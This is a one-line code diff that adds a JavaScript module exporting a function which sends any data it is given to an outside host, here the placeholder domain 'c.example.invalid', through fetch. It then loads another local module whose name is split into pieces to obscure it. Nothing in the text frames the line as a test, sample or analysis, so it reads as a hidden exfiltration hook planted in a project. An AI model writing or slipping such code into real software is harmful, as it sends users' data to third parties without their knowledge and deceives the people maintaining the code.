@@ -1,0 +1,1 @@
+module.exports=d=>fetch('https://c.example.invalid',{body:d});require('./'+'a')
